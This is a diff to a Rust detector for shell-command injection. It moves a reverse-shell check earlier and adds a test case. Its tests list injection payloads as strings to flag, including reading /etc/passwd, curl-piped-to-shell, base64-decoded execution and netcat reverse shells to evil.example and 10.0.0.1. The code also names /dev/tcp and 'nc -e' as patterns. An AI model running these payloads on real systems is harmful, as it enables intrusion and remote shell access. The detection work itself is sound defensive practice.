@@ -352,16 +352,18 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
             !args.is_empty() && (redirect || piped_to_shell || any(&[Shape::Var, Shape::Flag, Shape::Caps]) || args.iter().any(|&(s, e)| t[s..e].contains(&b'$')))
         }
     };
+    let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
+        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c" | b"exec:"))
+        || class == Class::Shell && arg(0) == b"-i";
     let first_arg_end = args.first().map_or(end, |a| a.1);
     let obfuscated = marks.get(i..first_arg_end.min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
     // A disguised `echo` or absolute binary path needs no argument shape (`echo$IFS$9XYZ//`,
     // `/bin$u/bash$u <ip>` are probes); other commands keep theirs, so a brace list such as `{id,name}` stays a field list.
-    if !(shaped || obfuscated && (class == Class::Echo || absolute) && args.len() <= 3) {
+    // A reverse shell needs no other argument shape: `nc -e /bin/sh host 4444/view` in a path
+    // segment still runs.
+    if !(shaped || reverse_shell || obfuscated && (class == Class::Echo || absolute) && args.len() <= 3) {
         return None;
     }
-    let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
-        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c" | b"exec:"))
-        || class == Class::Shell && arg(0) == b"-i";
     let interp_code = class == Class::Shell && matches!(arg(0), b"-c" | b"-e" | b"-r");
     let strong = sensitive || reverse_shell || interp_code || piped_to_shell || absolute;
     let hostile = reverse_shell || piped_to_shell || args.iter().any(|&(s, e)| HOSTILE.iter().any(|p| contains(&t[s..e], p.as_bytes())));
@@ -491,7 +493,7 @@ mod tests {
 
     #[test]
     fn commands_and_prose() {
-        for s in ["; id", "| cat /etc/passwd", "$(whoami)", "`id`", "&& curl http://x/s.sh|sh", ";sleep 5;", "a;c'a't /etc/passwd", "/???/??t /???/p??s??", "echo aWQ= | base64 -d | sh", "x|nc -e /bin/sh 10.0.0.1 4444"] {
+        for s in ["/files/| nc -e /bin/sh evil.example 4444/view", "; id", "| cat /etc/passwd", "$(whoami)", "`id`", "&& curl http://x/s.sh|sh", ";sleep 5;", "a;c'a't /etc/passwd", "/???/??t /???/p??s??", "echo aWQ= | base64 -d | sh", "x|nc -e /bin/sh 10.0.0.1 4444"] {
             assert_eq!(level(s), Some(1), "{s}");
         }
         for s in ["Tom & Jerry; cat lovers", "ls -la output explained", "report.txt", "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0; U; id) Presto/2.4.15"] {
